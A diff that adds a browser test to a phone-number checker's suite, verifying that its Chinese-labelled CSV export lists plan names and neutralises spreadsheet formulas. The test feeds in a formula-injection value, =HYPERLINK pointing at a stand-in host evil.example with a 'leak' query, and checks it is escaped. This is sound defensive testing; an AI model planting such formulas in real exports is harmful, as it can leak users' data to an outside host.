@@ -94,6 +94,22 @@ describe('widgets in the browser', () => {
       await page.screenshot({ path: join(SCREENSHOTS, 'checker-batch-phone.png'), fullPage: true });
       await page.close();
     });
+
+    it('the CSV download names plans in Chinese and runs no formula from a pasted cell', async () => {
+      await open('checker/?n=%3DHYPERLINK(%22http%3A%2F%2Fevil.example%2F%3Fleak%22)%0A4001236688', 1280);
+      const link = await page.waitForSelector('a:has-text("下载全部结果")');
+      const href = (await link.getAttribute('href')) ?? '';
+      const csv = await page.evaluate(async (url) => (await fetch(url)).text(), href);
+      const lines = csv.replace(/^\uFEFF/u, '').split('\r\n');
+      expect(lines[0]).toBe('"输入","号码","等级","规则或错误","可选套餐"');
+      expect(lines.find((l) => l.includes('HYPERLINK'))).toBe(
+        '"\'=HYPERLINK(""http://evil.example/?leak"")","","","号码只能包含数字（可带空格、横线、点或括号）",""',
+      );
+      const row = lines.find((l) => l.includes('4001236688')) ?? '';
+      expect(row).toMatch(/年套餐 \d+元\/年/u);
+      expect(row).not.toMatch(/annual-|monthly-/u);
+      await page.close();
+    });
   });
 
   describe('cost estimator', () => {
